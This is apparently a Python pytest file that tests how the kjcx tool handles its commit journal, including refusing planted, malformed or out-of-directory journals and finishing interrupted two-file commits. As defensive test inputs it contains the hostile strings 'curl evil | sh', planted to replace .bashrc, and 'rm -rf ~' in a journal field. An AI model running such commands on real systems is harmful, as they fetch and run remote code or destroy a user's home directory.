"""The commit journal (.kjcx-journal) is data, not a command: it finishes a commit
of this directory's two files and nothing else, or is refused touching nothing."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import signal
import stat
import time
from pathlib import Path

import pytest

import kjcx
from kjcx.plan.problems import DataError
from kjcx.round import commit

from conftest import TESTS

MINI = TESTS / "forms" / "mini"
NEW = "# 新写入的一行\n"


@contextlib.contextmanager
def within(seconds: float = 2.0):
    """The block ends within `seconds` (a hang is cut off by SIGALRM, not waited out)."""
    def too_slow(signum, frame):
        raise TimeoutError(f"took more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, too_slow)
    signal.setitimer(signal.ITIMER_REAL, seconds + 3)
    start = time.monotonic()
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    assert time.monotonic() - start < seconds


def tree(root: Path) -> dict:
    """Every entry under `root` (not following symlinks, never opening a FIFO):
    its kind, mode, and its bytes' checksum or its link target."""
    found = {}
    for path in sorted(root.rglob("*")):
        info = os.lstat(path)
        if stat.S_ISREG(info.st_mode):
            what = hashlib.sha256(path.read_bytes()).hexdigest()
        elif stat.S_ISLNK(info.st_mode):
            what = os.readlink(path)
        else:
            what = stat.S_IFMT(info.st_mode)
        found[str(path.relative_to(root))] = (stat.S_IMODE(info.st_mode), what)
    return found


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A temp HOME with a data directory (the mini plan) and a dotfile."""
    home = tmp_path / "home"
    shutil.copytree(MINI, home / "data")
    (home / ".bashrc").write_text("echo hello\n")
    monkeypatch.setenv("HOME", str(home))
    return home


def journal(data: Path, files: list[dict], fmt: str = commit.FORMAT) -> Path:
    path = data / commit.JOURNAL
    path.write_text(json.dumps({"format": fmt, "files": files}), encoding="utf-8")
    return path


def interrupted(data: Path) -> None:
    """A crash between the two renames: targets.yaml new, tasks.yaml old, the new
    tasks.yaml still in its temp, the journal that decides the commit in place."""
    for name, temp in (("targets.yaml", ".targets.yaml.a1b2.kjcx-tmp"), ("tasks.yaml", ".tasks.yaml.c3d4.kjcx-tmp")):
        (data / temp).write_bytes((data / name).read_bytes() + NEW.encode())
    journal(data, [{"file": "targets.yaml", "temp": ".targets.yaml.a1b2.kjcx-tmp"},
                   {"file": "tasks.yaml", "temp": ".tasks.yaml.c3d4.kjcx-tmp"}])
    os.replace(data / ".targets.yaml.a1b2.kjcx-tmp", data / "targets.yaml")


REFUSED = ("kjcx 没有按它改动任何文件。这个文件若不是 kjcx 留下的（例如随数据目录一起复制或解压而来），"
           "请检查 targets.yaml 和 tasks.yaml 是否完整，然后删除它")


def test_a_planted_journal_naming_a_dotfile_renames_nothing(kjcx, home):
    data = home / "data"
    (home / ".evil.kjcx-tmp").write_text("curl evil | sh\n")
    path = journal(data, [{"file": str(home / ".bashrc"), "temp": str(home / ".evil.kjcx-tmp")}])
    before = tree(home)
    with within():
        result = kjcx("status", "2022", "--data", data)
    assert result.exit_code == 1
    assert result.output == (f"错误：{path}：指向的不是本数据目录的 targets.yaml、tasks.yaml 及其临时文件。"
                             f"{REFUSED}\n")
    assert tree(home) == before  # every file of HOME: same bytes, same mode, nothing added or removed


@pytest.mark.parametrize("entry", [
    {"target": "/tmp/x", "temp": "/tmp/.x.kjcx-tmp"},  # the old absolute form, elsewhere
    {"file": "../targets.yaml", "temp": ".targets.yaml.1.kjcx-tmp"},
    {"file": "targets.yaml", "temp": "../.targets.yaml.1.kjcx-tmp"},
    {"file": "targets.yaml", "temp": ".tasks.yaml.1.kjcx-tmp"},  # another file's temp
    {"file": "targets.yaml", "temp": ".targets.yaml.1.txt"},
    {"file": "targets.yaml", "temp": ".targets.yaml.1.kjcx-tmp", "extra": 1},
    {"file": "targets.yaml", "temp": 5},
])
def test_a_journal_that_names_anything_else_is_refused(kjcx, home, entry):
    data = home / "data"
    (data / ".targets.yaml.1.kjcx-tmp").write_text("indicators: []\n")
    journal(data, [entry], "kjcx.journal/1" if "target" in entry else commit.FORMAT)
    before = tree(home)
    with within():
        result = kjcx("status", "--data", data)
    assert result.exit_code == 1
    assert "指向的不是本数据目录的 targets.yaml、tasks.yaml 及其临时文件" in result.output
    assert tree(home) == before


@pytest.mark.parametrize("kind, why", [
    ("fifo", "不是普通文件（可能是符号链接、命名管道或设备）"),
    ("dev_zero", "不是普通文件（可能是符号链接、命名管道或设备）"),
    ("symlink", "不是普通文件（可能是符号链接、命名管道或设备）"),
    ("huge", "过大（70000 字节），不是 kjcx 的写入日志"),
    ("garbage", "不是 kjcx 的写入日志（无法读取）"),
    ("schema", "不是 kjcx 的写入日志（格式不符）"),
])
def test_a_journal_is_read_like_a_data_file(kjcx, home, kind, why):
    data = home / "data"
    path = data / commit.JOURNAL
    if kind == "fifo":
        os.mkfifo(path)  # opening it for read would block every command
    elif kind == "dev_zero":
        path.symlink_to("/dev/zero")  # reading it would never end
    elif kind == "symlink":
        (home / "elsewhere.json").write_text(json.dumps(
            {"format": commit.FORMAT, "files": [{"file": "targets.yaml", "temp": ".targets.yaml.1.kjcx-tmp"}]}))
        path.symlink_to(home / "elsewhere.json")
    elif kind == "huge":
        path.write_bytes(b" " * 70000)
    elif kind == "garbage":
        path.write_bytes(b"\xff\xfe{")
    else:
        path.write_text(json.dumps({"format": commit.FORMAT, "files": [], "run": "rm -rf ~"}))
    before = tree(home)
    with within():
        result = kjcx("tasks", "--data", data)
    assert result.exit_code == 1
    assert result.output == f"错误：{path}：{why}。{REFUSED}\n"
    assert tree(home) == before


def test_an_interrupted_commit_is_finished_by_the_next_command(kjcx, home):
    data = home / "data"
    targets, tasks = ((data / n).read_bytes() for n in ("targets.yaml", "tasks.yaml"))
    interrupted(data)
    with within():
        result = kjcx("status", "2022", "--data", data)
    assert result.exit_code in (0, 3), result.output
    assert (data / "tasks.yaml").read_bytes() == tasks + NEW.encode()  # the new pair, both files
    assert (data / "targets.yaml").read_bytes() == targets + NEW.encode()
    assert sorted(p.name for p in data.iterdir()) == ["targets.yaml", "tasks.yaml"]


def test_a_copy_of_the_directory_finishes_on_itself_never_on_the_original(kjcx, home):
    data = home / "data"
    interrupted(data)
    copy = home / "copy"
    shutil.copytree(data, copy)
    original = tree(data)
    with within():
        result = kjcx("status", "2022", "--data", copy)
    assert result.exit_code in (0, 3), result.output
    assert tree(data) == original  # still the journal and the mixed pair: the copy did not touch it
    assert (copy / "tasks.yaml").read_bytes() == (data / ".tasks.yaml.c3d4.kjcx-tmp").read_bytes()
    assert sorted(p.name for p in copy.iterdir()) == ["targets.yaml", "tasks.yaml"]


def test_an_old_absolute_journal_is_finished_only_in_its_own_directory(kjcx, home):
    data = home / "data"
    temp = data / ".tasks.yaml.e5f6.kjcx-tmp"
    temp.write_bytes((data / "tasks.yaml").read_bytes() + NEW.encode())
    journal(data, [{"target": os.path.realpath(data / "tasks.yaml"), "temp": os.path.realpath(temp)}],
            "kjcx.journal/1")
    copy = home / "copy"
    shutil.copytree(data, copy)
    original = tree(data)
    with within():
        refused = kjcx("status", "--data", copy)  # names the original's files: refused
    assert refused.exit_code == 1 and "指向的不是本数据目录的" in refused.output
    assert tree(data) == original
    with within():
        done = kjcx("status", "--data", data)
    assert done.exit_code in (0, 3), done.output
    assert (data / "tasks.yaml").read_text(encoding="utf-8").endswith(NEW)


def test_check_and_load_plan_report_an_unfinished_commit(kjcx, home):
    data = home / "data"
    interrupted(data)
    before = tree(home)
    message = ("上次写入数据文件（forms import --write）没有完成：targets.yaml 和 tasks.yaml 可能一个是新的、"
               "一个是旧的，不能据此校验或测算。运行任一 kjcx 命令（如 kjcx status）会先完成这次写入，"
               "然后再运行 kjcx check；这个文件若不是 kjcx 留下的（例如随数据目录一起复制而来），"
               "请检查这两个文件是否完整，然后删除它")
    with within():
        result = kjcx("check", "--data", data)
    assert result.exit_code == 1  # never a silent pass over a mixed pair
    assert f"{data / commit.JOURNAL}: {message}" in result.output
    with pytest.raises(DataError) as raised:
        kjcx_load(data)
    assert [p.message for p in raised.value.problems] == [message]
    assert kjcx_check(data)[0].message == message
    assert tree(home) == before  # reported, not finished


def kjcx_load(data):
    return kjcx.load_plan(data)


def kjcx_check(data):
    return kjcx.check_plan(data)


def test_a_journal_target_that_is_a_directory_is_a_placed_message(kjcx, home):
    data = home / "data"
    (data / ".tasks.yaml.1.kjcx-tmp").write_text("tasks: []\n")
    (data / "tasks.yaml").unlink()
    (data / "tasks.yaml").mkdir()
    path = journal(data, [{"file": "tasks.yaml", "temp": ".tasks.yaml.1.kjcx-tmp"}])
    before = tree(home)
    with within():
        result = kjcx("status", "--data", data)
    assert result.exit_code == 1
    assert result.output == f"错误：{path}：要替换的 {data / 'tasks.yaml'} 不是普通文件。{REFUSED}\n"
    assert tree(home) == before


def test_a_journal_that_cannot_be_finished_is_a_placed_message(kjcx, home, monkeypatch):
    data = home / "data"
    interrupted(data)
    before = tree(home)

    def denied(src, dst):  # a read-only data directory, for a user who is not root
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(commit.os, "replace", denied)
    with within():
        result = kjcx("status", "--data", data)
    assert result.exit_code == 1
    assert result.output == (
        f"错误：{data / commit.JOURNAL}：上次写入数据文件没有完成，现在也无法完成（没有权限写入）："
        f"targets.yaml 和 tasks.yaml 可能一新一旧。请用对数据目录 {data} 有写权限的账户"
        "重新运行该命令；或从版本库恢复这两个文件后删除该日志文件\n")
    assert tree(home) == before


def test_two_directories_sharing_a_symlinked_file_share_its_lock(home, monkeypatch):
    shared = home / "shared"
    shared.mkdir()
    first, second = home / "data", home / "other"
    shutil.copytree(first, second)
    shutil.move(first / "targets.yaml", shared / "targets.yaml")
    (first / "targets.yaml").symlink_to(shared / "targets.yaml")
    (second / "targets.yaml").unlink()
    (second / "targets.yaml").symlink_to(shared / "targets.yaml")
    monkeypatch.setenv("KJCX_LOCK_WAIT", "0.2")
    with commit.locked(first), within(), pytest.raises(commit.CommitError, match="另一个 kjcx forms import"):
        with commit.locked(second):  # the real file's directory is held by the first
            pass
    with commit.locked(second):  # free again
        pass
